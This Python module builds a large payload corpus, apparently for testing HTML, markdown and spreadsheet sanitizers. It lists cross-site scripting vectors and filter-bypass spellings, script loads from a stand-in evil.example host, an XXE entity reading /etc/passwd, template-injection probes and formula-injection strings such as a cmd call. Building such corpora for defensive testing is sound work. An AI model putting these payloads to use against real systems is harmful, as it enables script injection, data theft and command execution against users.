"""Pieces of text that do something where a page, a feed or a spreadsheet takes them for more than text.

`LIVE` is written out by hand, one known trick a line; `PAYLOADS` adds what follows from tables: every event, element and
scheme that browsers know for running a script, each in the spellings that filters are known to miss.
"""

from __future__ import annotations

LIVE = r'''
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
<script/src=data:,alert(1)>
<script>alert(1)//
<script >alert(1)</script >
<<script>script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type=module>import('data:text/javascript,alert(1)')</script>
<script xlink:href=data:,alert(1) />
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
</iframe><script>alert(1)</script>
</xmp><script>alert(1)</script>
</math><script>alert(1)</script>
</svg><script>alert(1)</script>
--><script>alert(1)</script>
--!><script>alert(1)</script>
]]><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!-- --!> <script>alert(1)</script> -->
<![CDATA[<script>alert(1)</script>]]>
<![CDATA[><script>alert(1)</script>
<?xml-stylesheet href="javascript:alert(1)"?>
<?php echo 1 ?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
<!ENTITY x "y">
"><script>alert(1)</script>
'><script>alert(1)</script>
` ><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
" autofocus onfocus=alert(1) x="
' autofocus onfocus=alert(1) x='
"/onmouseover=alert(1)//
x onmouseover=alert(1)
" style="animation-name:x" onanimationstart="alert(1)
" srcdoc="<script>alert(1)</script>
" formaction="javascript:alert(1)
"><a href="javascript:alert(1)">x</a>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="x`onerror=alert(1)">
<img """><script>alert(1)</script>">
<img src='x' onerror="&#97;lert(1)">
<img src=x:alert(alt) onerror=eval(src) alt=1>
<image src=x onerror=alert(1)>
<image href="javascript:alert(1)">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>
<svg><use href="data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onmousemove=alert(1)>
<head><base href="//evil.example/">
<base href="javascript:/a/../">
<base target=_blank>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="//evil.example/">
<link rel="dns-prefetch" href="//evil.example">
<style>@import'//evil.example/x.css';</style>
<style>*{background:url(javascript:alert(1))}</style>
<style>body{display:none}</style>
<div style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<div style="position:fixed;inset:0">over everything</div>
<p style="behavior:url(x.htc)">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml,<svg onload=alert(1)>">
<applet code="x" codebase="//evil.example"></applet>
<portal src="https://evil.example"></portal>
<fencedframe></fencedframe>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit></form>
<form id=test></form><button form=test formaction=javascript:alert(1)>x</button>
<isindex type=image src=1 onerror=alert(1)>
<input type=image src=x onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#0000106;avascript:alert(1)">x</a>
<a href=javascript&#58;alert(1)>x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="//evil.example">x</a>
<a href="\\evil.example">x</a>
<a href="https://evil.example" target=_blank ping="//evil.example">x</a>
<a onclick=alert(1)>x</a>
<area href=javascript:alert(1)>
<x onclick=alert(1)>x</x>
<x contenteditable onblur=alert(1)>x</x>
<x style=animation-name:a onanimationend=alert(1)>
<x onfocusin=alert(1) tabindex=1 id=x>
<dialog open><form method=dialog>
<slot name=x></slot><template shadowrootmode=open><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><script>alert(1)</script>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<plaintext>
<table background="javascript:alert(1)"><tr><td>
<a id=location href=x><a id=location name=reload>
<img name=getElementById><form name=body>
<input name=attributes><input name=nodeName>
<bgsound src="javascript:alert(1)">
<layer src="//evil.example"></layer>
<xss id=x tabindex=1 onactivate=alert(1)></xss>
<custom-element onclick=alert(1)></custom-element>
<p/onclick=alert(1)>
<a<b onclick=alert(1)>
<!><img src=x onerror=alert(1)>
</ onclick=alert(1)>
<//onclick=alert(1)>
<%<!--'%><script>alert(1)</script -->
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
<ſcript>alert(1)</ſcript>
<İmg src=x onerror=alert(1)>
<scrıpt>alert(1)</scrıpt>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/
data:text/html,<script>alert(1)</script>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>\x3e
';alert(1)//
";alert(1)//
\";alert(1)//
'-alert(1)-'
${alert(1)}
`${alert(1)}`
{{7*7}}
{{constructor.constructor('alert(1)')()}}
{% raw %}{% endraw %}{{ 7*7 }}
{% include "/etc/passwd" %}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ config }}{{ page.__class__ }}{# comment #}
#{7*7} <%= 7*7 %> ${{7*7}} [[7*7]]
{"@type":"x","y":"</script><script>alert(1)</script>"}
{"__proto__":{"x":1}}
"}</script><script>alert(1)</script>{"
=cmd|' /C calc'!A0
=HYPERLINK("https://evil.example","x")
=1+1
+1+1
-1+1
@SUM(1+1)
＝1+1
=IMPORTXML("https://evil.example","//x")
|cmd
;=1+1;
"=1+1"
,=1+1
","=1+1"
https://evil.example/"onmouseover="alert(1)
https://evil.example/'onmouseover='alert(1)
https://example.org@evil.example/
[x](javascript:alert(1))
[x](javascript&colon;alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1) )
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](https://e.org "onmouseover=alert(1)")
[x](https://e.org '" onmouseover=alert(1) x="')
[x](https://e.org"onmouseover="alert(1))
[x](https://e.org\"onmouseover=\"alert(1))
[x](https://e.org/<script>alert(1)</script>)
[x][javascript:alert(1)]
[x]: javascript:alert(1)
[<script>alert(1)</script>](https://e.org)
[`<script>`](https://e.org)<script>alert(1)</script>
![x](javascript:alert(1))
![x](https://evil.example/x.png)
![x" onerror="alert(1)](media/a.png)
![<img src=x onerror=alert(1)>](media/a.png)
![x](media/a.png"onerror="alert(1))
![x](media/a.png "x" onerror="alert(1)")
![x](media/a.png 'x" onerror="alert(1)')
<javascript:alert(1)>
<https://e.org/" onmouseover="alert(1)>
<https://e.org/"onmouseover="alert(1)>
<mailto:a@b.c?body=<script>alert(1)</script>>
<a@b.c" onmouseover="alert(1)>
**<script>alert(1)</script>**
*<img src=x onerror=alert(1)>*
# <script>alert(1)</script>
> <script>alert(1)</script>
- <script>alert(1)</script>
1. <script>alert(1)</script>
| <script>alert(1)</script> | x |
[^<script>alert(1)</script>]
[[event:<script>alert(1)</script>]]
[[event:e|<script>alert(1)</script>]]
[[<script>alert(1)</script>]]
{: onclick=alert(1)}
{.x onclick=alert(1)}
*[HTML]: <script>alert(1)</script>
\<script>alert(1)\</script>
\\<script>alert(1)</script>
`<script>alert(1)</script>
``<script>`alert(1)``</script>
<div markdown=1><script>alert(1)</script></div>
<https://[::1]/<script>>
&#x3C;img src=x onerror=alert&#40;1&#41;&#x3E;
\&lt;img src=x onerror=alert(1)\&gt;
&lt<img src=x onerror=alert(1)&gt
klzzwxh:0001
wzxhzdk:0
'''

_EVENTS = [
    "onabort",
    "onafterprint",
    "onanimationcancel",
    "onanimationiteration",
    "onauxclick",
    "onbeforecopy",
    "onbeforeinput",
    "onbeforematch",
    "onbeforeprint",
    "onbeforetoggle",
    "onbeforeunload",
    "oncanplay",
    "onclose",
    "oncontentvisibilityautostatechange",
    "oncontextmenu",
    "oncopy",
    "oncuechange",
    "oncut",
    "ondblclick",
    "ondrag",
    "ondrop",
    "ondurationchange",
    "onended",
    "onformdata",
    "onfullscreenchange",
    "ongotpointercapture",
    "onhashchange",
    "oninput",
    "oninvalid",
    "onkeydown",
    "onloadeddata",
    "onloadstart",
    "onmessage",
    "onmousewheel",
    "onpagereveal",
    "onpageshow",
    "onpaste",
    "onpointerdown",
    "onpointerrawupdate",
    "onpopstate",
    "onprogress",
    "onratechange",
    "onreset",
    "onresize",
    "onscroll",
    "onscrollend",
    "onscrollsnapchange",
    "onsearch",
    "onseeked",
    "onselectionchange",
    "onslotchange",
    "onsubmit",
    "onsuspend",
    "ontimeupdate",
    "ontouchstart",
    "ontransitionend",
    "onunhandledrejection",
    "onvolumechange",
    "onwaiting",
    "onwebkitanimationstart",
    "onwheel",
]
_ELEMENTS = ["a", "b", "body", "button", "div", "img", "input", "p", "span", "svg", "table", "video"]
_SPELLINGS = (
    "<{0} {1}=alert(1)>", "<{0}/{1}=alert(1)>", '" {1}="alert(1)" x="', "<{0} x='>' {1} = alert(1) >", "<{0} {1}='alert(1)'",
)  # fmt: skip
_SCHEMES = (
    "javascript",
    "vbscript",
    "data:text/html",
    "livescript",
    "blob",
    "filesystem",
    "feed:javascript",
    "view-source",
)
_HIDING = (
    "{0}:alert(1)",
    "{0}&colon;alert(1)",
    "&#x{1:x};{2}:alert(1)",
    "\n{0}:alert(1)",
    "{0}\t:alert(1)",
    "%0a{0}:alert(1)",
)

_derived = [_SPELLINGS[n % len(_SPELLINGS)].format(_ELEMENTS[n % len(_ELEMENTS)], e) for n, e in enumerate(_EVENTS)]
_links = [
    f"[x]({hidden.format(scheme, ord(scheme[0]), scheme[1:])})" for scheme in _SCHEMES for hidden in _HIDING
]  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys([*filter(None, LIVE.split("\n")), *_derived, *_links]))
"""Each of them once."""
